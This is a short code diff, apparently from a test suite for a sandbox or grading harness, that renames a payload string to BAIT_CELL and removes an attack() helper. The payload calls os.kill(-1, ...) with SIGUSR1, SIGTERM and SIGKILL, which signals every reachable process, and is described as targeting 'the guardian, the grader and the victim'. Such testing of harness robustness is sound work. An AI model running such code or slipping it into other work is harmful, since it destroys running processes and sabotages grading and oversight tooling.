@@ -1,7 +1,6 @@
-"""Sends every signal to everything: all processes, groups, the guardian, the grader, the victim and numbers
-nearby."""
+"""Sends every signal to everything: all processes, groups, the guardian, the grader and the victim."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import ctypes, os, signal
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -33,7 +32,3 @@ os.system(
 for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
     os.kill(-1, number)
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
